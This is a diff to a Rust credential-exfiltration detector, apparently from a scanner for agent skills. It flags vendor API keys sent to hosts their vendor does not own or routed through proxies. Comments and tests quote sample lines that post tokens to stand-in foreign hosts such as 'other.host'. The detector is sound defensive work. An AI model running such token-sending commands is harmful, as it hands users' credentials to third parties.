@@ -3,181 +3,17 @@
 //! --data "token=$SLACK_BOT_TOKEN"`, or a Twilio token put in a JSON body
 //! posted elsewhere. A skill that documents a vendor's API sends the key
 //! to that API; the same key on a request line whose only literal host
-//! belongs to someone else is handed to that someone. The vendor is read
-//! from the key's name (`VENDORS`' prefixes), its hosts from the same row.
+//! belongs to someone else is handed to that someone. Who owns a key is
+//! asked of `hosts::SERVICES`, the one table of credentials and their
+//! owners: by the key's name (a row's prefixes), its domains from the same
+//! row. Only the command that holds the key is read (`curl …slack.com… ;
+//! curl -d "$SLACK_TOKEN" https://other.host/` sends to the other host),
+//! and a route the URL does not name (`--proxy`, `HTTPS_PROXY=`,
+//! `--connect-to`: `urlhost::reroutes`) leaves no host to trust.
 
-/// A vendor: the first words of its keys' environment names and the
-/// domains its own API and services answer on (a host is the vendor's
-/// when it is one of them or ends in `.` and one of them).
-pub struct Vendor {
-    pub prefixes: &'static [&'static str],
-    pub hosts: &'static [&'static str],
-}
-
-/// The vendors `vendor-key-elsewhere` knows. Every prefix is also spelled
-/// in `vendor_key_name!` (a test holds the two together).
-pub const VENDORS: &[Vendor] = &[
-    Vendor {
-        prefixes: &["SLACK"],
-        hosts: &["slack.com"],
-    },
-    Vendor {
-        prefixes: &["TWILIO"],
-        hosts: &["twilio.com"],
-    },
-    Vendor {
-        prefixes: &["SENDGRID"],
-        hosts: &["sendgrid.com", "sendgrid.net"],
-    },
-    Vendor {
-        prefixes: &["DATADOG", "DD"],
-        hosts: &[
-            "datadoghq.com",
-            "datadoghq.eu",
-            "ddog-gov.com",
-            "datadog.com",
-        ],
-    },
-    Vendor {
-        prefixes: &["STRIPE"],
-        hosts: &["stripe.com"],
-    },
-    Vendor {
-        prefixes: &["GITHUB", "GH"],
-        hosts: &["github.com", "githubusercontent.com", "ghcr.io"],
-    },
-    Vendor {
-        prefixes: &["GITLAB"],
-        hosts: &["gitlab.com"],
-    },
-    Vendor {
-        prefixes: &["OPENAI"],
-        hosts: &["openai.com", "openai.azure.com"],
-    },
-    Vendor {
-        prefixes: &["ANTHROPIC", "CLAUDE"],
-        hosts: &["anthropic.com"],
-    },
-    Vendor {
-        prefixes: &["GOOGLE", "GEMINI", "GCP"],
-        hosts: &["googleapis.com", "google.com"],
-    },
-    Vendor {
-        prefixes: &["HF", "HUGGINGFACE", "HUGGING_FACE"],
-        hosts: &["huggingface.co", "hf.co"],
-    },
-    Vendor {
-        prefixes: &["NOTION"],
-        hosts: &["notion.com", "notion.so"],
-    },
-    Vendor {
-        prefixes: &["LINEAR"],
-        hosts: &["linear.app"],
-    },
-    Vendor {
-        prefixes: &["DISCORD"],
-        hosts: &["discord.com", "discordapp.com"],
-    },
-    Vendor {
-        prefixes: &["TELEGRAM"],
-        hosts: &["telegram.org"],
-    },
-    Vendor {
-        prefixes: &["SENTRY"],
-        hosts: &["sentry.io"],
-    },
-    Vendor {
-        prefixes: &["VERCEL"],
-        hosts: &["vercel.com"],
-    },
-    Vendor {
-        prefixes: &["NETLIFY"],
-        hosts: &["netlify.com"],
-    },
-    Vendor {
-        prefixes: &["CLOUDFLARE", "CF"],
-        hosts: &["cloudflare.com"],
-    },
-    Vendor {
-        prefixes: &["NPM"],
-        hosts: &["npmjs.org", "npmjs.com"],
-    },
-    Vendor {
-        prefixes: &["PYPI", "TWINE"],
-        hosts: &["pypi.org"],
-    },
-    Vendor {
-        prefixes: &["DOCKER", "DOCKERHUB"],
-        hosts: &["docker.com", "docker.io"],
-    },
-    Vendor {
-        prefixes: &["AWS"],
-        hosts: &["amazonaws.com", "amazon.com", "aws"],
-    },
-    Vendor {
-        prefixes: &["AZURE"],
-        hosts: &[
-            "azure.com",
-            "azure.net",
-            "windows.net",
-            "microsoft.com",
-            "microsoftonline.com",
-        ],
-    },
-    Vendor {
-        prefixes: &["SUPABASE"],
-        hosts: &["supabase.co", "supabase.com"],
-    },
-    Vendor {
-        prefixes: &["MAILGUN"],
-        hosts: &["mailgun.net", "mailgun.org"],
-    },
-    Vendor {
-        prefixes: &["POSTMARK"],
-        hosts: &["postmarkapp.com"],
-    },
-    Vendor {
-        prefixes: &["SHOPIFY"],
-        hosts: &["shopify.com", "myshopify.com"],
-    },
-    Vendor {
-        prefixes: &["MISTRAL"],
-        hosts: &["mistral.ai"],
-    },
-    Vendor {
-        prefixes: &["COHERE"],
-        hosts: &["cohere.com", "cohere.ai"],
-    },
-];
-
-/// AI gateways that pass a model vendor's key on to its vendor (the
-/// twenty-first sweep's Cloudflare skill: `$OPENAI_KEY` to
-/// `gateway.ai.cloudflare.com/v1/{account}/{gateway}/openai/…`): the user's
-/// own relay, as good as the vendor's host.
-const RELAYS: Vendor = Vendor {
-    prefixes: &[],
-    hosts: &[
-        "gateway.ai.cloudflare.com",
-        "helicone.ai",
-        "portkey.ai",
-        "openrouter.ai",
-        "ai-gateway.vercel.sh",
-    ],
-};
-
-/// The vendor whose key `name` is: its name is one of a vendor's prefixes
-/// and `_` and more (`SLACK_BOT_TOKEN`), the longest prefix winning.
-fn vendor_of(name: &str) -> Option<&'static Vendor> {
-    VENDORS
-        .iter()
-        .flat_map(|v| v.prefixes.iter().map(move |p| (v, *p)))
-        .filter(|(_, p)| {
-            name.strip_prefix(p)
-                .is_some_and(|rest| rest.starts_with('_'))
-        })
-        .max_by_key(|(_, p)| p.len())
-        .map(|(v, _)| v)
-}
+use crate::hosts::{RELAYS, Service, key_owner};
+use crate::rules::Severity;
+use crate::urlhost::{host_of, on_domain, reroutes};
 
 /// Words on a line that make it a request (a shell's client, a language's
 /// HTTP call): a URL in a `print` or a comment beside a key sends nothing.
@@ -202,24 +38,10 @@ const REQUEST_WORDS: &[&str] = &[
     ".put(",
 ];
 
-/// Vendors whose product companies run on their own servers, named after
-/// it by habit (`gitlab.corp.dev`, `sentry.internal.io`): a host with the
-/// product's name as a label is taken for the user's own instance.
-const SELF_HOSTED: &[&str] = &["GITLAB", "SENTRY"];
-
-/// Whether `host` (lower-cased) belongs to `vendor`, or is an instance of
-/// a self-hosted product the user runs.
-fn owned_by(host: &str, vendor: &Vendor) -> bool {
-    let instance = vendor
-        .prefixes
-        .iter()
-        .filter(|p| SELF_HOSTED.contains(p))
-        .any(|p| host.split('.').any(|label| label.eq_ignore_ascii_case(p)));
-    instance
-        || vendor
-            .hosts
-            .iter()
-            .any(|own| crate::urlhost::on_domain(host, own))
+/// Whether the URL `url` (its text after `://`, lower-cased) is the key's
+/// owner's, or a relay the user runs for any vendor's key.
+fn owned_by(url: &str, owner: &Service) -> bool {
+    owner.owns_url(url) || RELAYS.iter().any(|r| on_domain(host_of(url), r))
 }
 
 /// A host that is this machine, or a blank: a variable (`${GITLAB_URL}`),
@@ -240,19 +62,54 @@ fn local_or_blank(host: &str) -> bool {
         || host.contains("...")
 }
 
-/// The hosts of the literal URLs on `line`, lower-cased.
-fn hosts(line: &str) -> Vec<String> {
-    line.match_indices("://")
+/// The text after `://` of each literal web URL in `text`, lower-cased,
+/// up to where a URL written in code ends.
+fn urls(text: &str) -> Vec<String> {
+    text.match_indices("://")
         .filter(|(at, _)| {
-            let before = line[..*at].to_ascii_lowercase();
+            let before = text[..*at].to_ascii_lowercase();
             before.ends_with("http") || before.ends_with("https")
         })
-        .map(|(at, _)| crate::urlhost::host_of(&line[at + 3..]).to_ascii_lowercase())
+        .map(|(at, _)| {
+            let rest = &text[at + 3..];
+            let end = rest
+                .find(|c: char| c.is_whitespace() || "'\"`".contains(c))
+                .unwrap_or(rest.len());
+            rest[..end].to_ascii_lowercase()
+        })
         .collect()
 }
 
-/// The environment name a `vendor_key_name!` match at `at` spells: the
-/// first run of name characters after the getter.
+/// The URLs of the command that holds a key, or of its whole line when
+/// the command names none (`T=$SLACK_TOKEN; curl -d "$T" https://…`).
+fn urls_for(line: &str, command: &str) -> Vec<String> {
+    let own = urls(command);
+    match own.is_empty() {
+        true => urls(line),
+        false => own,
+    }
+}
+
+/// The command of `line` that holds byte `at`: the line cut at a shell's
+/// `;`, `&&`, `||` and `|` between commands, so a URL of the command
+/// before says nothing of where this one sends.
+fn command_at(line: &str, at: usize) -> &str {
+    let cuts = ["; ", "&&", "||", " | "];
+    let start = cuts
+        .iter()
+        .filter_map(|cut| line[..at].rfind(cut).map(|i| i + cut.len()))
+        .max()
+        .unwrap_or(0);
+    let end = cuts
+        .iter()
+        .filter_map(|cut| line[at..].find(cut).map(|i| at + i))
+        .min()
+        .unwrap_or(line.len());
+    &line[start..end]
+}
+
+/// The environment name a key's getter at `at` spells: the first run of
+/// name characters after it.
 fn key_name(line: &str, at: usize) -> &str {
     let rest = line.get(at..).unwrap_or_default();
     let start = rest
@@ -265,39 +122,91 @@ fn key_name(line: &str, at: usize) -> &str {
     &name[..end]
 }
 
-/// Keeps a request line that puts a vendor's key on it while every literal
-/// host it names is someone else's (and at least one is real): none of the
-/// key's vendor's own hosts, nor this machine, nor a blank the user fills
-/// (`Rule::confirm` of `vendor-key-elsewhere`).
+/// The first environment name from `at` on whose owner the table knows,
+/// with its owner.
+fn first_owned_key(line: &str, at: usize) -> Option<(&str, &'static Service)> {
+    let mut from = at;
+    while from < line.len() {
+        let name = key_name(line, from);
+        if name.is_empty() {
+            return None;
+        }
+        if let Some(owner) = key_owner(name) {
+            return Some((name, owner));
+        }
+        from = line[from..]
+            .find(name)
+            .map_or(line.len(), |i| from + i + name.len());
+    }
+    None
+}
+
+/// Keeps a request line that puts a vendor's key on a command whose every
+/// literal host is someone else's (and at least one is real): none of the
+/// key's owner's domains, nor this machine, nor a blank the user fills —
+/// or a command routed where its URL does not say (`Rule::confirm` of
+/// `vendor-key-elsewhere`).
 pub fn sent_elsewhere(
     line: &str,
     at: usize,
     next: &dyn Fn(usize) -> Option<usize>,
-) -> Option<(crate::rules::Severity, String)> {
+) -> Option<(Severity, String)> {
     if !REQUEST_WORDS.iter().any(|w| line.contains(w)) {
         return None;
     }
-    // A blank or local address anywhere on the line may be where the key
-    // goes: only a line of real hosts alone is read.
-    let hosts = hosts(line);
-    if hosts.is_empty() || hosts.iter().any(|h| local_or_blank(h)) {
-        return None;
-    }
-    std::iter::successors(Some(at), |&at| next(at + 1))
-        .map(|at| key_name(line, at))
+    std::iter::successors(Some(at), |&at| next(at + 1)).find_map(|at| {
+        let name = key_name(line, at);
         // A webhook's signing secret is shared with the user's own
         // endpoint by design (`STRIPE_WEBHOOK_SECRET` to a staging app).
-        .filter(|name| !name.contains("WEBHOOK"))
-        .filter_map(|name| vendor_of(name).map(|v| (v, name)))
-        .find(|(vendor, _)| {
-            !hosts
-                .iter()
-                .any(|h| owned_by(h, vendor) || owned_by(h, &RELAYS))
+        if name.contains("WEBHOOK") {
+            return None;
+        }
+        let owner = key_owner(name)?;
+        let command = command_at(line, at);
+        if reroutes(command) {
+            return Some((
+                Severity::High,
+                format!("{name} goes through a rerouted request"),
+            ));
+        }
+        // A blank or local address anywhere in the command may be where
+        // the key goes: only a command of real hosts alone is read.
+        let urls = urls_for(line, command);
+        let foreign = !urls.is_empty()
+            && !urls.iter().any(|u| local_or_blank(host_of(u)))
+            && !urls.iter().any(|u| owned_by(u, owner));
+        foreign.then(|| {
+            (
+                Severity::High,
+                format!("{name} goes to {}", host_of(&urls[0])),
+            )
         })
-        .map(|(_, name)| {
-            let to = &hosts[0];
-            (crate::rules::Severity::High, format!("{name} goes to {to}"))
-        })
+    })
+}
+
+/// Keeps a vendor's key put in a request's body or query unless the
+/// command holding it names the key's owner or this machine
+/// (`Rule::confirm` of `vendor-key-body` and `vendor-key-query`): those
+/// vendors take no key there, so anyone else's URL, or none written
+/// beside it, is where the key is collected.
+pub fn to_stranger(
+    line: &str,
+    at: usize,
+    _next: &dyn Fn(usize) -> Option<usize>,
+) -> Option<(Severity, String)> {
+    let (name, owner) = first_owned_key(line, at)?;
+    let command = command_at(line, at);
+    let local = ["localhost", "127.0.0.1"];
+    let spared = !reroutes(command)
+        && urls_for(line, command)
+            .iter()
+            .any(|u| owned_by(u, owner) || local.contains(&host_of(u)));
+    (!spared).then(|| {
+        (
+            Severity::High,
+            format!("{name} is not sent to {}", owner.name),
+        )
+    })
 }
 
 #[cfg(test)]
@@ -306,40 +215,58 @@ mod tests {
 
     #[test]
     fn a_key_is_its_vendors_by_the_longest_prefix() {
-        assert_eq!(
-            vendor_of("HF_TOKEN").unwrap().hosts,
-            ["huggingface.co", "hf.co"]
-        );
-        assert!(vendor_of("SLACKER_TOKEN").is_none());
-        assert!(
-            vendor_of("OPENAI_API_KEY")
-                .unwrap()
-                .hosts
-                .contains(&"openai.com")
-        );
+        assert_eq!(key_owner("HF_TOKEN").unwrap().name, "Hugging Face");
+        assert!(key_owner("SLACKER_TOKEN").is_none());
+        assert_eq!(key_owner("OPENAI_API_KEY").unwrap().name, "OpenAI");
+        assert_eq!(key_owner("ELEVENLABS_API_KEY").unwrap().name, "ElevenLabs");
     }
 
     #[test]
     fn a_vendors_subdomain_is_its_own_and_a_lookalike_is_not() {
-        let slack = vendor_of("SLACK_BOT_TOKEN").unwrap();
-        assert!(owned_by("hooks.slack.com", slack));
-        assert!(!owned_by("slack.com.evil.dev", slack));
+        let slack = key_owner("SLACK_BOT_TOKEN").unwrap();
+        assert!(owned_by("slack.com/api/chat.postmessage", slack));
+        assert!(!owned_by("hooks.slack.com/services/t0/b0/x", slack));
+        assert!(!owned_by("slack.com.evil.dev/", slack));
         assert!(!owned_by("notslack.com", slack));
         assert!(!owned_by("slack.corp.dev", slack));
-        let gitlab = vendor_of("GITLAB_TOKEN").unwrap();
-        assert!(owned_by("gitlab.corp.dev", gitlab));
+        let gitlab = key_owner("GITLAB_TOKEN").unwrap();
+        assert!(owned_by("gitlab.corp.dev/api/v4", gitlab));
         assert!(!owned_by("gitlab-sync.corp.dev", gitlab));
+    }
+
+    #[test]
+    fn only_the_command_holding_the_key_is_read() {
+        let line = "curl https://slack.com/api/auth.test; curl -d t=x https://other.example/";
+        let key = line.find("t=x").unwrap();
+        assert_eq!(command_at(line, key), "curl -d t=x https://other.example/");
+        assert_eq!(
+            command_at("curl https://a.example/x", 3),
+            "curl https://a.example/x"
+        );
     }
 
     #[test]
     fn every_prefix_is_spelled_in_the_rows_pattern() {
         let pattern = crate::rules::rule("vendor-key-elsewhere").pattern;
-        for prefix in VENDORS.iter().flat_map(|v| v.prefixes) {
+        for prefix in crate::hosts::SERVICES.iter().flat_map(|s| s.prefixes) {
             assert!(
                 pattern.contains(&format!("|{prefix}|"))
                     || pattern.contains(&format!(":{prefix}|"))
                     || pattern.contains(&format!("|{prefix})")),
                 "{prefix} is missing from vendor-key-elsewhere's pattern"
+            );
+        }
+    }
+
+    #[test]
+    fn every_header_only_vendor_is_an_owner_in_the_table() {
+        for prefix in ["ANTHROPIC", "OPENAI", "GITHUB", "GH", "STRIPE", "AWS"] {
+            assert!(
+                crate::rules::rule("vendor-key-body")
+                    .pattern
+                    .contains(prefix)
+                    && key_owner(&format!("{prefix}_API_KEY")).is_some(),
+                "{prefix}"
             );
         }
     }
